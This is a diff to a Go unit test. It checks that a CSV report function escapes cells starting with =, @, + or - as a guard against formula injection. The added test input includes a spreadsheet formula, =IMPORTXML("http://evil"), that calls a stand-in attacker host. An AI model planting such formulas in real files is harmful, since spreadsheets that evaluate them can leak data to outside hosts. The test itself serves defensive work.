@@ -33,12 +33,14 @@ func TestReportCSVEscapesEveryCell(t *testing.T) {
 	b, err := reportCSV([]herald.ReportRow{{
 		Key: "=key", Row: 2, Channel: "tg", Platform: "telegram", DueAt: time.Date(2026, 12, 1, 7, 0, 0, 0, time.UTC),
 		Status: herald.StatusFailed, RemoteID: "@id", URL: "+url", PublishedAt: &pub, Attempts: 3, Error: "-oops, \"quoted\"",
+		Text: "=IMPORTXML(\"http://evil\")\nline two", Rubric: "@tips",
 	}})
 	if err != nil {
 		t.Fatal(err)
 	}
-	want := "key,row,channel,platform,due_at,status,remote_id,url,published_at,attempts,error\n" +
-		"'=key,2,tg,telegram,2026-12-01T07:00:00Z,failed,'@id,'+url,2026-12-01T07:00:05Z,3,\"'-oops, \"\"quoted\"\"\"\n"
+	want := "key,row,channel,platform,due_at,status,remote_id,url,published_at,attempts,error,text,rubric\n" +
+		"'=key,2,tg,telegram,2026-12-01T07:00:00Z,failed,'@id,'+url,2026-12-01T07:00:05Z,3,\"'-oops, \"\"quoted\"\"\"," +
+		"\"'=IMPORTXML(\"\"http://evil\"\")\nline two\",'@tips\n"
 	if string(b) != want {
 		t.Errorf("got\n%s\nwant\n%s", b, want)
 	}
